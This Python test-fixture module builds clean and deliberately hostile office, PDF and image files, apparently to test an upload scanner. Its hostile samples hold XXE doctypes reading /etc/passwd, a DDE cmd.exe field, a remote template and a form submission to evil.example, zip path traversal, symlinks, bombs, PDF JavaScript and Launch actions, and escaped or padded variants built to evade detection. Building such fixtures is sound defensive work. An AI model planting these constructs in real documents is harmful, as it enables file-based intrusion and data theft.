"""Files made for the tests: clean ones as offices write them, and hostile ones that differ in one thing each."""

import io
import struct
import zipfile
import zlib

import docx
import openpyxl

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/>{more}</Types>'
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
RELATION = '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" {}/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def word(*paragraphs: str, cells: tuple[str, ...] = (), header: str = "") -> bytes:
    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if cells:
        row = document.add_table(rows=1, cols=len(cells)).rows[0]
        for cell, text in zip(row.cells, cells, strict=True):
            cell.text = text
    if header:
        document.sections[0].header.paragraphs[0].text = header
    return _bytes_of(document.save)


def excel(*rows: tuple[object, ...], title: str = "Sheet") -> bytes:
    book = openpyxl.Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    return _bytes_of(book.save)


def slides(text: str) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    types = TYPES.format(more="").replace("/word/document.xml", "/ppt/presentation.xml")
    types = types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", kind)
    drawing = "http://schemas.openxmlformats.org/drawingml/2006/main"
    slide = f'<s xmlns:a="{drawing}"><a:p><a:r><a:t>{text}</a:t></a:r></a:p></s>'
    return container({"[Content_Types].xml": types, "ppt/presentation.xml": "<p/>", "ppt/slides/slide1.xml": slide})


def container(entries: dict[str, str | bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    def write(file: io.BytesIO) -> None:
        with zipfile.ZipFile(file, "w", method) as target:
            for name, content in entries.items():
                target.writestr(name, content)

    return _bytes_of(write)


def word_with(entries: dict[str, str | bytes] | None = None, *, types: str = "", relation: str = "") -> bytes:
    """A small Word file with something more in it."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES.format(more=types),
        "word/document.xml": "<w:document xmlns:w='w'><w:p>公开</w:p></w:document>",
        "word/_rels/document.xml.rels": RELATIONS.format(relation),
    }
    return container(parts | (entries or {}))


def word_with_link() -> bytes:
    """An ordinary hyperlink leads outside and is harmless."""
    return word_with(relation=RELATION.format("hyperlink", 'Target="https://www.gov.cn/" TargetMode="External"'))


def word_with_symlink() -> bytes:
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16

    def write(file: io.BytesIO) -> None:
        file.write(word_with())
        with zipfile.ZipFile(file, "a") as target:
            target.writestr(link, "/etc/passwd")

    return _bytes_of(write)


def word_with_false_size() -> bytes:
    """The directory says ten bytes; the entry is longer."""
    content = container({"[Content_Types].xml": TYPES.format(more=""), "word/document.xml": "公开" * 4000})
    place = content.rindex(b"word/document.xml") - 46
    return content[: place + 24] + (10).to_bytes(4, "little") + content[place + 28 :]


def hostile_word() -> dict[str, bytes]:
    """Name of the danger → file."""
    external = 'Target="https://evil.example/x.dotm" TargetMode="External"'
    macro = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    template = "application/vnd.ms-word.document.macroEnabled.main+xml"
    dde = "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:p>"
    doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return {
        "macro part": word_with({"word/vbaProject.bin": OLE}),
        "macro type": word_with(types=macro),
        "macro document": word_with(types=f'<Override PartName="/a" ContentType="{template}"/>'),
        "renamed macro": word_with({"word/part.bin": "x"}, relation=RELATION.format("vbaProject", 'Target="part.bin"')),
        "control": word_with({"word/activeX/activeX1.xml": "<x/>"}),
        "excel macro sheet": word_with({"xl/macrosheets/sheet1.xml": "<x/>"}),
        "remote template": word_with(relation=RELATION.format("attachedTemplate", external)),
        "remote picture": word_with(relation=RELATION.format("image", external)),
        "linked workbook": word_with({"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "embedded object": word_with({"word/embeddings/oleObject1.bin": OLE}),
        "disguised object": word_with({"word/media/image1.png": OLE}),
        "nested archive": word_with({"word/media/image1.png": word_with()}),
        "nested zip": word_with({"customXml/more.zip": "x"}),
        "foreign part": word_with(relation=RELATION.format("aFChunk", 'Target="part.html"')),
        "dde split over runs": word_with({"word/document.xml": f"<w:document xmlns:w='w'>{dde}</w:document>"}),
        "doctype": word_with({"word/document.xml": doctype}),
        "doctype in utf-16": word_with({"word/document.xml": doctype.encode("utf-16")}),
        "doctype in relations": word_with({"word/_rels/x.rels": doctype}),
        "doctype behind a megabyte": word_with({"word/styles.xml": " " * 1_048_570 + doctype}),
        "path upwards": word_with({"../../etc/cron.d/x": "x"}),
        "absolute path": word_with({"/etc/cron.d/x": "x"}),
        "windows path": word_with({"C:\\windows\\x": "x"}),
        "symlink": word_with_symlink(),
        "bomb": word_with({"word/media/a.bmp": b"\0" * (40 * 1024 * 1024)}),
        "many entries": word_with({f"word/{number}.xml": "" for number in range(5000)}),
        "false size": word_with_false_size(),
        "cut off": word_with()[:-30],
        "plain archive": container({"a.txt": "公开"}),
        "jar": container({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}),
        "two parts of one name": word_with({"word/Document.xml": "<x/>"}),
    }


def pdf(text: str = "政务公开", *, catalog: str = "", objects: tuple[bytes, ...] = (), trailer: str = "") -> bytes:
    """One page with `text`, in the way of a Chinese PDF that embeds no font."""
    content = f"BT /F1 12 Tf 72 700 Td <{text.encode('utf-16-be').hex()}> Tj ET".encode()
    parts = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>"
        ),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [6 0 R] >>",
        (
            b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo"
            b" << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor 7 0 R >>"
        ),
        (
            b"<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [0 -200 1000 900] /ItalicAngle 0"
            b" /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>"
        ),
        *objects,
    ]
    written, places = b"%PDF-1.5\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start, size = len(written), len(parts) + 1
    written += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return written + f"trailer << /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()


def packed(inner: bytes, *, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object stream that holds object 9."""
    stream = zlib.compress(b"9 0 " + inner)
    return b"<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n%s\nendstream" % (filters, len(stream), stream)


def clean_pdf() -> dict[str, bytes]:
    return {
        "plain": pdf(),
        "opens at a page": pdf(catalog="/OpenAction [3 0 R /FitH null]"),
        "opens by an action": pdf(catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
        "opens by reference": pdf(catalog="/OpenAction 8 0 R", objects=(b"<< /S /GoTo /D [3 0 R /Fit] >>",)),
        "opens by packed reference": pdf(
            catalog="/OpenAction 9 0 R", objects=(packed(b"<< /S /GoTo /D [3 0 R /Fit] >>"),)
        ),
        "packed objects": pdf(objects=(packed(b"<< /Producer (Office) >>"),)),
        "web link": pdf(objects=(b"<< /S /URI /URI (https://www.gov.cn/) >>",)),
        "picture with chance bytes": pdf(objects=(b"<< /Length 9 >>\nstream\n\x01/JS\x02(\x90\x91\nendstream",)),
    }


def hostile_pdf() -> dict[str, bytes]:
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    return {
        "script at opening": pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "script by reference": pdf(catalog="/OpenAction 8 0 R", objects=(script,)),
        "escaped script": pdf(catalog="/OpenAction << /S /J#61vaScr#69pt /#4aS (app.alert(1)) >>"),
        "packed script": pdf(catalog="/OpenAction 9 0 R", objects=(packed(script),)),
        "packed in an unknown way": pdf(objects=(packed(script, filters=b"/Filter [/ASCIIHexDecode /FlateDecode]"),)),
        "packed behind an escaped name": pdf(objects=(packed(script).replace(b"ObjStm", b"Obj#53tm"),)),
        "launch": pdf(objects=(b"<< /S /Launch /F (cmd.exe) >>",)),
        "launch at opening": pdf(catalog="/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
        "opens another file": pdf(catalog="/OpenAction 9 0 R", objects=(packed(b"<< /S /GoToR /F (a.pdf) >>"),)),
        "unknown opening": pdf(catalog="/OpenAction 99 0 R"),
        "named script": pdf(catalog="/Names << /JavaScript << /Names [(a) 8 0 R] >> >>", objects=(script,)),
        "file inside": pdf(catalog="/Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >>", objects=(b"<<>>",)),
        "form sent away": pdf(objects=(b"<< /S /SubmitForm /F (https://evil.example/) >>",)),
        "rich media": pdf(objects=(b"<< /Type /Annot /Subtype /RichMedia >>",)),
        "locked": pdf(trailer="/Encrypt 8 0 R", objects=(b"<< /Filter /Standard >>",)),
        "bomb": pdf(objects=(packed(b"\0" * (70 * 1024 * 1024)),)),
        "cut off": pdf()[:-10],
    }


def png(width: int = 2, height: int = 2, *, comment: bytes = b"", after: bytes = b"") -> bytes:
    """A grey picture; the size is what it says, not what it holds."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    text = chunk(b"tEXt", b"Comment\0" + comment) if comment else b""
    body = chunk(b"IDAT", zlib.compress(b"\0\x80\x80" * 2))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + text + body + chunk(b"IEND", b"") + after


def jpeg(width: int = 2, height: int = 2, *, comment: bytes = b"") -> bytes:
    """The frame of a JPEG: markers, size, an empty scan."""
    note = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x55" * 8
    return b"\xff\xd8" + note + frame + scan + b"\xff\xd9"


def gif(width: int = 1, height: int = 1, *, tail: bytes = b";") -> bytes:
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + image + tail


def webp(width: int = 2, height: int = 2) -> bytes:
    """A lossless picture without its pixels."""
    bits = struct.pack("<I", (width - 1) | (height - 1) << 14)
    chunk = b"VP8L" + struct.pack("<I", 6) + b"\x2f" + bits + b"\0"
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


def _bytes_of(save) -> bytes:
    file = io.BytesIO()
    save(file)
    return file.getvalue()
